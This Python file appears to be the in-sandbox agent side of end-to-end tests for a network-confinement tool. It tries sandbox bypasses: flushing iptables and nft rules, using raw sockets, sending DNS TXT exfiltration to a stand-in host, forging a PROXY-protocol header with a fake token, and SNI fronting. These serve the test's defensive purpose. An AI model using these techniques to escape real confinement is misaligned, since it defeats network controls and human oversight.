# The agent's side of the end-to-end tests: runs INSIDE the cell as an unprivileged user (the
# COMMAND of `cellgate run`). It waits for the test to write go.json (the addresses and ports of
# this run), makes one attempt after another, and prints one JSON line per attempt. It judges
# nothing: the test decides, from these lines, the observer and the audit log.
import errno
import json
import os
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import time

D = os.environ["E2E_DIR"]
MODE = sys.argv[1] if len(sys.argv) > 1 else "bypass"


def wait_for(name, secs):
    path = os.path.join(D, name)
    end = time.time() + secs
    while time.time() < end:
        if os.path.exists(path):
            with open(path) as f:
                return json.load(f)
        time.sleep(0.05)
    print(json.dumps({"attempt": "setup", "error": "no " + name}), flush=True)
    sys.exit(3)


P = wait_for("go.json", 30)
H = P["host_ip"]
UP = P["up_port"]
OBS = P["obs_tcp"]
OBS_HTTP = P["obs_http"]
OBS_UDP = P["obs_udp"]
PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def report(name, fn):
    try:
        r = fn()
    except Exception as e:  # every failure is a result
        r = {"error": "%s: %s" % (type(e).__name__, e)}
        if isinstance(e, OSError) and e.errno:
            r["errno"] = errno.errorcode.get(e.errno, str(e.errno))
    r["attempt"] = name
    print(json.dumps(r), flush=True)


def local_of(s):
    a = s.getsockname()
    return "%s:%d" % (a[0], a[1])


def read_all(s):
    data = b""
    while True:
        try:
            chunk = s.recv(65536)
        except ConnectionResetError:
            return data, True
        if not chunk:
            return data, False
        data += chunk


def tcp(addr, payload, family=socket.AF_INET, timeout=5):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    r = {}
    try:
        s.connect(addr)
        r["connected"] = True
        r["local"] = local_of(s)
        s.sendall(payload)
        data, reset = read_all(s)
        r["reset"] = reset
        r["recv"] = data.decode("utf-8", "replace")
    finally:
        s.close()
    return r


def parse_http(raw):
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and lines[0].startswith("HTTP/") else None
    headers = {}
    for l in lines[1:]:
        k, _, v = l.partition(":")
        headers[k.strip().lower()] = v.strip()
    if headers.get("transfer-encoding", "").lower() == "chunked":
        out, rest = b"", body
        while rest:
            size_line, _, rest = rest.partition(b"\r\n")
            n = int(size_line.split(b";")[0] or b"0", 16)
            if n == 0:
                break
            out, rest = out + rest[:n], rest[n + 2:]
        body = out
    try:
        j = json.loads(body)
    except Exception:
        j = None
    return {"status": status, "body": body.decode("utf-8", "replace")[:2000], "json": j}


def http_exchange(addr, request, tls_name=None, timeout=8):
    """One HTTP/1.1 exchange over TCP (and TLS when tls_name is given), Connection: close."""
    s = socket.create_connection(addr, timeout=timeout)
    r = {"connected": True, "local": local_of(s)}
    try:
        if tls_name:
            ctx = ssl.create_default_context()
            ctx.set_alpn_protocols(["http/1.1"])
            s = ctx.wrap_socket(s, server_hostname=tls_name)
        s.sendall(request.encode())
        data, reset = read_all(s)
        r["reset"] = reset
        r.update(parse_http(data))
    finally:
        s.close()
    return r


def get(host_header, path, addr, tls_name, method="GET", target=None):
    req = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (method, target or path, host_header)
    return http_exchange(addr, req, tls_name)


def udp(addr, payload, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        n = s.sendto(payload, addr)
        r = {"sent": n}
        try:
            data = s.recv(2048)
            r["reply"] = data.hex()
        except socket.timeout:
            r["reply"] = None
        return r
    finally:
        s.close()


def dns(qname, qtype, server):
    tid = int.from_bytes(os.urandom(2), "big")
    q = struct.pack("!HHHHHH", tid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in qname.split(".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(4)
    try:
        s.connect(server)
        s.send(q)
        local = local_of(s)
        resp = s.recv(4096)
        return {"local": local, "rcode": resp[3] & 0x0F, "answers": struct.unpack("!H", resp[6:8])[0]}
    finally:
        s.close()


def icmp_echo(family, addr):
    proto = socket.IPPROTO_ICMP if family == socket.AF_INET else socket.IPPROTO_ICMPV6
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    s.settimeout(3)
    try:
        kind = 8 if family == socket.AF_INET else 128
        n = s.sendto(struct.pack("!BBHHH", kind, 0, 0, 0, 1) + b"bypass-icmp", addr)
        r = {"socket": True, "sent": n}
        r["reply"] = s.recv(2048).hex()
        return r
    finally:
        s.close()


def run(cmd):
    exe = shutil.which(cmd[0], path=PATH)
    if exe is None:
        return {"rc": None, "error": "not installed: " + cmd[0]}
    p = subprocess.run([exe] + cmd[1:], capture_output=True, timeout=20, env={"PATH": PATH})
    return {"rc": p.returncode, "stderr": p.stderr.decode("utf-8", "replace")[-300:],
            "stdout": p.stdout.decode("utf-8", "replace")[-300:]}


def raw(family, kind, proto, dest):
    s = socket.socket(family, kind, proto)
    try:
        r = {"created": True}
        if dest is not None:
            r["sent"] = s.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1), dest)
        return r
    finally:
        s.close()


API = "api.e2e:%d" % UP

if MODE == "basic":
    report("allowed_https", lambda: get(API, "/v1/hello", ("api.e2e", UP), "api.e2e"))
    report("denied_https", lambda: get(API, "/admin/users", ("api.e2e", UP), "api.e2e", method="DELETE"))

elif MODE == "bypass":
    report("allowed_https", lambda: get(API, "/v1/hello", ("api.e2e", UP), "api.e2e"))
    report("tcp_direct_ip_other_port", lambda: tcp((H, OBS), b"bypass-tcp\n"))
    report("http_ip_literal", lambda: get("%s:%d" % (H, OBS_HTTP), "/bypass-http", (H, OBS_HTTP), None))
    report("udp_datagram", lambda: udp((H, OBS_UDP), b"bypass-udp"))
    quic_initial = bytes([0xC3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0]) + b"bypass-quic" + bytes(1180)
    report("quic_udp_443", lambda: udp((H, 443), quic_initial))
    report("ipv6_tcp_ula", lambda: tcp((P["host_ip6"], OBS, 0, 0), b"bypass-tcp6\n", socket.AF_INET6))
    if P.get("host_ll"):
        scope = socket.if_nametoindex(P["cell_if"])
        report("ipv6_tcp_link_local", lambda: tcp((P["host_ll"], OBS, 0, scope), b"bypass-tcp6ll\n", socket.AF_INET6))
    report("ipv6_udp_ula", lambda: udp((P["host_ip6"], OBS_UDP, 0, 0), b"bypass-udp6", socket.AF_INET6))
    report("icmp_echo", lambda: icmp_echo(socket.AF_INET, (H, 0)))
    report("icmp_echo_ping", lambda: run(["ping", "-c", "1", "-W", "2", H]))
    report("icmpv6_echo", lambda: icmp_echo(socket.AF_INET6, (P["host_ip6"], 0, 0, 0)))
    report("raw_socket_icmp", lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, (H, 0)))
    report("raw_socket_ip", lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, None))
    report("packet_socket", lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3), None))
    report("iptables_flush_filter", lambda: run(["iptables", "-F"]))
    report("iptables_flush_nat", lambda: run(["iptables", "-t", "nat", "-F"]))
    report("iptables_policy_accept", lambda: run(["iptables", "-I", "OUTPUT", "1", "-j", "ACCEPT"]))
    report("ip6tables_flush", lambda: run(["ip6tables", "-F"]))
    report("nft_flush_ruleset", lambda: run(["nft", "flush", "ruleset"]))
    report("iptables_in_user_namespace", lambda: run(["unshare", "-Ur", "iptables", "-F"]))
    report("tcp_direct_after_iptables", lambda: tcp((H, OBS), b"bypass-tcp-again\n"))
    report("dns_name_not_allowed", lambda: dns("denied.e2e", 1, (H, 53)))
    report("dns_foreign_resolver", lambda: dns("denied.e2e", 1, ("192.0.2.53", 53)))
    report("dns_txt_exfil", lambda: dns("mv4gm2lmorzgc5dfmqwxgzldojsxi.exfil.example", 16, (H, 53)))
    report("intake_from_inside_no_ppv2", lambda: tcp((H, 15001), b"hello-intake\n"))
    fake = b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x1b" + socket.inet_aton(P["cell_ip"]) + socket.inet_aton(H) \
        + struct.pack("!HH", 40000, UP) + b"\xe0\x00\x0cforged.jwt.x"
    report("intake_from_inside_own_ppv2", lambda: tcp((H, 15001), fake + b"GET /v1/x HTTP/1.1\r\nHost: " + API.encode() + b"\r\n\r\n"))
    report("tagger_direct", lambda: tcp(("127.0.0.1", 15006), b"GET / HTTP/1.1\r\nHost: api.e2e\r\n\r\n"))
    report("sni_allowed_host_denied", lambda: get("denied.e2e:%d" % OBS, "/v1/fronted", ("api.e2e", UP), "api.e2e"))
    report("connect_through_allowed", lambda: get("denied.e2e:%d" % OBS, None, ("api.e2e", UP), "api.e2e",
                                                  method="CONNECT", target="denied.e2e:%d" % OBS))

elif MODE == "wait":
    # Idle inside the cell while the test probes the node's intake from the host side.
    wait_for("done.json", 60)

elif MODE == "kill":
    def by_ip(path):
        # By address, not by name: once the node is gone its resolver is gone too, and this
        # must test the data path, not DNS.
        return get(API, path, (H, UP), "api.e2e")
    n = 0
    while not os.path.exists(os.path.join(D, "killed.json")) and n < 200:
        report("before_kill", lambda: by_ip("/v1/before"))
        time.sleep(0.2)
        n += 1
    for i in range(3):
        report("after_kill_https", lambda: by_ip("/v1/after"))
        time.sleep(0.3)
    report("after_kill_tcp_direct", lambda: tcp((H, OBS), b"bypass-after-kill\n"))
    report("after_kill_http_ip_literal", lambda: get("%s:%d" % (H, OBS_HTTP), "/after-kill", (H, OBS_HTTP), None))
    report("after_kill_udp", lambda: udp((H, OBS_UDP), b"bypass-udp-after-kill"))
    report("after_kill_dns", lambda: dns("api.e2e", 1, (H, 53)))

print(json.dumps({"attempt": "done"}), flush=True)
